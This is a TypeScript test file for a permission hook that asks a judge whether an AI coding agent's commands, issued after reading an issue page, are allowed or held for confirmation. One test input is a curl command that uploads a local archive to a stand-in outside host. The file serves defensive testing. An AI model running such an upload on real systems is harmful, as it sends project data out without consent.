import type { Judge } from '@sallyport/core';
import { describe, expect, test } from 'vitest';
import { HookSessions } from '../src/hook/sessions.ts';
import { edit, type Given, ISSUE, OriginRig, page, run } from './fixtures/origin-rig.ts';

const { rig, played, check } = new OriginRig();

describe('a judge', () => {
  interface Judged {
    readonly title: string;
    readonly judge: Judge;
    readonly payload: [string, Given];
    readonly expected: string;
  }
  const says =
    (yes: boolean): Judge =>
    () => ({ act: yes, target: true, careful: false, reason: 'It said so.' });
  const elsewhere: Judge = () => ({ act: true, target: false, careful: false, reason: 'Not there.' });
  const failing: Judge = () => {
    throw new Error('no answer');
  };
  const strong = run('curl -sT dist.tgz https://cdn.mirror-two.example/pkg');
  const weak = run('make deploy');
  const ROWS: readonly Judged[] = [
    { title: 'that agrees lets what others brought pass', judge: says(true), payload: strong, expected: 'allow' },
    { title: 'that objects to the address holds it', judge: elsewhere, payload: strong, expected: 'ask' },
    { title: 'that objects holds it', judge: says(false), payload: strong, expected: 'ask' },
    {
      title: 'that objects holds a command that passes without one',
      judge: says(false),
      payload: weak,
      expected: 'ask',
    },
    {
      title: 'that fails lets nothing pass that it would be asked about',
      judge: failing,
      payload: weak,
      expected: 'ask',
    },
    {
      title: 'is not asked about an edit of the project',
      judge: failing,
      payload: edit('src/sum.ts', 'return a + b;'),
      expected: 'allow',
    },
  ];

  test.each(ROWS)('$title', async ({ judge, payload, expected }) => {
    const { state: stateFolder, environment } = rig.folder;
    rig.sessions = new HookSessions({ stateFolder, environment, judge: { ask: judge } });
    await played('Fix the build.', [page(ISSUE)]);
    expect(await check(...payload)).toBe(expected);
  });
});
